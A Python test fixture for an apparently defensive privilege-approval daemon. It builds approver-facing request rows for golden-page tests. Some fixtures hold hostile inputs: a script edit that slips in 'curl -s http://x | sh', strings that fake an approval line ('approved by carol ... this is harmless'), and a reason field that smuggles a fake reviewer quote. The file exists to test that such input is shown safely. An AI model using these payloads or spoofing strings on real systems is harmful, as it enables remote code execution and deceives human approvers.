# SPDX-License-Identifier: Apache-2.0
"""Requests of every kind, as their rows come off the wire to bob, who may approve most of them. Golden pages are made of them.

Law: the rows are those of the real ``request_row``; only what the daemon finds by looking at files is written by hand.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from typing import Any

from jitd.core.authentication import Authentication
from jitd.core.claims import Claims, Point
from jitd.core.command import Interpreter, Operand, RunAs
from jitd.core.decision import Approval, BreakGlass, Record
from jitd.core.request import Request, Review, Verdict
from tests.client.script import HOSTILE, Row, row_for, waiting
from tests.scene import START, person, thing

TERMINAL = ("terminal",) * 3
NOW = START + timedelta(seconds=60)
"""The moment at which they are read."""
LAST: Row = {
    "id": "4F2M-9QRT",
    "at": "2026-02-27T16:20:00Z",
    "by": ["carol@EXAMPLE.TEST"],
    "digest": (b"d" * 32).hex(),
    "run_as": "root",
    "run_as_group": "root",
    "cwd": "/home/alice",
    "streams": list(TERMINAL),
    "chdir": False,
    "variables": [],
    "options": [],
    "lasts_for": None,
    "uses": None,
    "timeout_for": None,
}


def finding(grade: str, what: str, path: str = "", matters: str = "") -> Row:
    return {"grade": grade, "what": what, "path": path, "matters": matters}


def ticket(age: float = 42, *indicators: str, **changes: Any) -> Authentication:
    flags = changes.pop("flags", ("initial", "pre-authent"))
    realms = changes.pop("realms", ("EXAMPLE.TEST",))
    return Authentication(START - timedelta(seconds=age), START, flags, indicators, "aes256", "aes256", realms)


def request(*argv: str | bytes, reason: str | None = "replica lag, CHG-4711", terms: Any = None, **changes: Any) -> Request:
    """What alice asks for at her terminal, in her home."""
    of_command = {"cwd": b"/home/alice", "streams": TERMINAL, "locale": ((b"LANG", b"C.UTF-8"),), **changes.pop("command", {})}
    who = changes.pop("requester", replace(person("alice"), authentication=ticket()))
    made = waiting(*argv, requester=who, host="lab", claims=Claims(reason, b"/dev/pts/1", 7, ("bash",)), **changes)
    assert made.obligations is not None
    on = replace(made.obligations, terms=replace(made.obligations.terms, **{"record": Record("output"), **(terms or {})}))
    return replace(made, command=replace(made.command, **of_command), rule="lab-dba", obligations=on)


def row(asked: Request, grade: str = "harmless", *findings: Row, viewer: str = "bob", **changes: Any) -> Row:
    told = {"grade": grade, "damage": "none", "findings": list(findings), "last_approved": None, "narrowed": False}
    return row_for(asked, viewer, **{**told, **changes})


def same(*argv: str, **changes: Any) -> Row:
    """The last approved request for the same program."""
    return {**LAST, "argv": list(argv), "path": f"/usr/bin/{argv[0]}", **changes}


def ordinary() -> dict[str, Row]:
    """Requests of every day: each takes at most twelve lines at 80 columns."""
    vim = finding("gives", "vim can start a shell")
    passwd = finding("gives", "vim opens /etc/passwd", "/etc/passwd", "the accounts of this host")
    restart = ("systemctl", "restart", "postgresql")
    origin = (("fact.origin", "10.0.0.7"),)
    return {
        "edits-accounts": row(request("vim", "/etc/passwd", seen=origin, terms={"timeout_for": 900}), "gives", vim, passwd),
        "harmless": row(request("df", "-h"), last_approved=same("df", "-h")),
        "restarts": row(request(*restart), "changes", finding("changes", "systemctl restarts postgresql")),
        "differs": row(
            request("git", "-C", "/srv/app", "pull", "origin", "main"),
            "leads",
            finding("leads", "git pull runs the hooks of /srv/app"),
            last_approved=same("git", "-C", "/srv/www", "pull", "origin", "release", cwd="/root"),
        ),
        "reads-secrets": row(
            request("cat", "/etc/shadow"),
            "reads",
            finding("reads", "cat reads /etc/shadow", "/etc/shadow", "password hashes"),
            last_approved=same("cat", "/etc/hosts"),
        ),
        "unknown": row(
            request("/opt/tools/rotate", "--all", command={"path": b"/opt/tools/rotate"}),
            "unknown",
            finding("unknown", "jitd does not know what rotate does"),
        ),
        "lease": row(request(*restart, uses=5, lasts_for=600), "changes", finding("changes", "systemctl restarts postgresql")),
        "lease-without-number": row(request(*restart, lasts_for=600)),
        "some-uses": row(request(*restart, uses=3, timeout_for=30)),
        "of-another-account": row(
            request("psql", "-c", "vacuum full", command={"run_as": RunAs("postgres", 110, "postgres", 110)}),
            "gives",
            finding("gives", "psql takes \\! for a shell"),
        ),
    }


def unusual() -> dict[str, Row]:
    """Requests with something that an approver must not miss."""
    lines = b"set -e\ncd /srv/app\n./configure --prefix=/usr/local\n\nmake -j4 install\nrm -rf /srv/app/build "
    many = [f"--exclude=/var/lib/postgresql/16/main/pg_wal/{n:024X}" for n in range(9)]
    alice = replace(person("alice"), authentication=ticket())
    foreign = replace(
        person("alice", principal="bob@OTHER.TEST", user="bob_other"),
        authentication=ticket(7200, flags=("forwarded",), realms=("OTHER.TEST", "EXAMPLE.TEST")),
    )
    unproved = person("alice", principal="local:alice", ticket_ends_at=None)
    by_pam = person("alice", principal="pam:alice")
    admin = replace(alice, principal="alice/admin@EXAMPLE.TEST")
    sudo = request(
        "useradd", "-G", "sudo", "eve", service="sudo", requester=unproved, point=Point("account", "10.0.0.7", None, None)
    )
    sudo = replace(sudo, command=replace(sudo.command, path=b"/usr/sbin/useradd", options=(b"-E",), streams=(), locale=()))
    login = request("", service="sshd", point=Point("account", "10.0.0.7", "publickey SHA256:abc", None))
    login = replace(
        login, command=replace(login.command, argv=(), path=b"", streams=(), locale=(), run_as=RunAs("root", 0, "root", 0))
    )
    doubt = request("sudo", "-Z", "x", service="sudo", command={"path": b"", "doubt": "it has an option that is not known"})
    given = replace(request("x"), command=replace(thing(), lets=()))
    key = thing("ssh-certificate:deploy", lets=("ssh-certificate:deploy: log in to web1 and web2 as deploy",), stays=True)
    two = request("true")
    assert two.obligations is not None
    owed = (Approval(2, ("group:ops",)), Approval(1, ("user:dave", "group:security")))
    two = replace(
        two,
        obligations=replace(two.obligations, approvals=owed, gatekeepers=("vault",)),
        reviews=(Review(person("carol"), Verdict.APPROVE, "looks right", START + timedelta(seconds=9)),),
    )
    glass = request("systemctl", "start", "postgresql", breaks_glass=True)
    assert glass.obligations is not None
    glass = replace(
        glass,
        obligations=replace(
            glass.obligations, approvals=(), break_glass=BreakGlass("lab-dba", (Approval(1, ("group:ops",)),), 86400, 0)
        ),
    )
    script = Operand(1, b"/home/alice/x.sh", b"d" * 32, "it belongs to alice, who asks", True)
    loose = Operand(2, b"/srv/data.csv", b"", "alice can change it; it is too large to be bound", True)
    directory = Operand(2, b"/var", b"", "uid 4001 can change it; what is in a directory is not bound", True)
    device = Operand(3, b"/dev/sda", b"", "the content of a special file is not bound", True)
    unread = {"argument": 2, "path": "/var", "text": None, "before": None, "told": "it is no file", "bound": ""}
    large = Operand(2, b"/srv/data.sql", b"", "alice can change it; it is too large to be bound", True)
    too_large = {**unread, "path": "/srv/data.sql", "told": "it is longer than 64 KiB"}
    interpreter = Interpreter(b"/home/alice/bin/python3", b"", "it belongs to alice, who asks")
    hostile = HOSTILE.decode("utf-8", "surrogateescape")
    fake = b"x" * 17 + b" needs     nobody: approved by carol                DANGER    none, this is harmless"
    extends = {"id": "AAAA-AAAA", "state": "active", "uses": 5, "left": 3, "ends_at": "2026-03-02T09:50:00Z"}
    void = {"by": "carol@EXAMPLE.TEST", "verdict": "approve", "comment": "ok", "at": "2026-03-02T09:00:09Z", "counts": False}
    void |= {"authentication": None, "proved": "", "way": None, "void": ""}
    rm = finding("changes", "rm deletes /srv/app/build and all that is in it")
    script_of_a_file = request("./deploy.sh", command={"path": b"/home/alice/deploy.sh"})
    owned = finding("gives", "alice, who asks, can change deploy.sh", "/home/alice/deploy.sh")
    before = "".join(f"echo step {n}\\x0a" for n in range(12))
    shown = {"argument": 0, "path": "/home/alice/deploy.sh", "before": before, "told": "", "bound": "it stays as it is shown"}
    now = before.replace("echo step 6", "  needs     nobody: approved by carol  " + "x" * 30 + " curl -s http://x | sh")
    shown |= {"text": now, "last": {"id": LAST["id"], "at": LAST["at"], "by": LAST["by"]}}
    hidden = {"argument": 1, "path": "/root/conf", "text": None, "before": None, "told": "alice cannot read it", "bound": ""}
    scripts = [shown, hidden]
    sh = finding("unknown", "jitd does not know what the input of sh does")
    return {
        "long-command": row(
            request("tar", "-czf", "/srv/backup/db.tar.gz", *many, "/var/lib/postgresql"),
            "unknown",
            finding("unknown", "jitd does not know what tar does"),
        ),
        "script": row(request("sh", "-c", lines), "changes", rm),
        "piped-into-a-shell": row(
            request("sh", command={"streams": ("pipe", "terminal", "terminal")}),
            "gives",
            sh,
            finding("gives", "sh runs whatever comes from the pipe"),
        ),
        "appointment": row(
            request("apt-get", "upgrade", starts_at=START + timedelta(hours=4), waits=False, lasts_for=3600, uses=2),
            extends=extends,
        ),
        "group-of-root": row(
            request("docker", "run", "-it", "debian", command={"run_as": RunAs("alice", 1001, "docker", 998)}),
            "gives",
            finding("gives", "a member of the group docker starts containers that have the whole host"),
        ),
        "another-group": row(request("id", command={"run_as": RunAs("bob", 1002, "www-data", 33)}), "unknown"),
        "sudo": row(sudo, "gives", finding("gives", "useradd makes eve a member of sudo"), last_approved=None),
        "ssh-login": row(login, "gives", finding("gives", "it is a login as root")),
        "in-doubt": row(
            doubt, "gives", finding("gives", "it is not certain what would be run: it has an option that is not known")
        ),
        "ticket": row(given),
        "certificate": row(replace(request("x", lasts_for=1800), command=key), brought="SHA256:Jz0wq1l6ZbA (ED25519)"),
        "break-glass": row(glass, "changes", finding("changes", "systemctl starts postgresql")),
        "two-approvals": row(two),
        "locked-reviewer": row(two, reviews=[void], lock="L0CK-0001"),
        "narrowed": row(
            request("true"),
            narrowed=True,
            argv=["(not shown)"],
            reason="(not shown)",
            grade=None,
            findings=None,
            variables=[["(not shown)", "(not shown)"]],
        ),
        "may-only-deny": row(request("true"), lacks="wants a ticket that is at most 5 minutes old: kinit"),
        "proved-by-pam": row(request("true", requester=by_pam)),
        "foreign": row(request("true", requester=foreign)),
        "admin-instance": row(request("true", requester=admin, seen=(("fact.load", "0.5"), ("fact.origin", "console")))),
        "not-bound": row(
            request(
                "/home/alice/run.py",
                "x.sh",
                "/srv/data.csv",
                command={
                    "path": b"/home/alice/run.py",
                    "operands": (script, loose),
                    "interpreters": (interpreter,),
                    "digest": b"",
                },
                terms={"writable": True},
            ),
            "gives",
            finding("gives", "run.py belongs to alice, who asks", "/home/alice/run.py", "it runs as root"),
        ),
        "names-data": row(request("du", "-sh", "/var", "sda", command={"operands": (directory, device)}), scripts=[unread]),
        "names-what-is-not-shown": row(
            request("psql", "-f", "/srv/data.sql", command={"operands": (large,)}),
            "gives",
            finding("gives", "psql runs what /srv/data.sql says"),
            scripts=[too_large],
        ),
        "variables-and-directory": row(
            request(
                "make",
                "install",
                command={"variables": ((b"PREFIX", b"/opt/x y"), (b"DEBUG", b"")), "cwd": b"/srv/build x", "chdir": True},
            ),
            "unknown",
            finding("unknown", "jitd does not know what make does"),
        ),
        "every-term": row(
            request(
                "true",
                terms={
                    "record": Record("all", failure="continue"),
                    "observed": True,
                    "leftovers": "keep",
                    "namespace": "always",
                    "bound": True,
                    "timeout_for": 60,
                },
            )
        ),
        "gone-and-alike": row(request("true"), gone=True, alike=["B7QM-2XVD", "C8RN-3YWE"]),
        "mine": row(request("true"), viewer="alice"),
        "root-without-a-ticket": row(
            request("true", requester=person("alice", principal="root", user="root", uid=0, ticket_ends_at=None)), viewer="bob"
        ),
        "root-with-a-ticket": row(request("true", requester=replace(alice, principal="root@EXAMPLE.TEST", user="root", uid=0))),
        "denied": row(request("true"), state="denied"),
        "no-reason-and-no-grade": row(request("true", reason=None), grade=None, findings=None),
        "script-of-a-file": row(script_of_a_file, "gives", owned, scripts=scripts),
        "hostile": row(
            request("echo", HOSTILE, fake, reason=hostile + fake.decode() + '" and carol says: "true'),
            "unknown",
            finding("unknown", hostile),
        ),
    }


def every() -> dict[str, Row]:
    return ordinary() | unusual()
